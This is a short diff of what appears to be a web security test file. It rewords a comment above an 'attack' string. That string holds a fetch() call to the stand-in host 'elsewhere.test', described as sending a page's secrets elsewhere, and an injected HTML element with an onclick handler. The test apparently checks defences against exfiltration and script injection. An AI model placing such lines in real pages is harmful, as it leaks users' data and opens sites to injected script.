@@ -19,7 +19,7 @@ afterAll(async () => {
   await system.deploy();
 });
 
-/** What an attacker would have the page do: send its secrets elsewhere, and run a script of the attacker's. */
+/** Actions that an attacker wants from the page: send its secrets elsewhere, and run a script of the attacker's. */
 const attack = `
   fetch("https://elsewhere.test/").catch(() => undefined);
   document.body.insertAdjacentHTML("beforeend", '<b onclick="0">injected</b>')`;
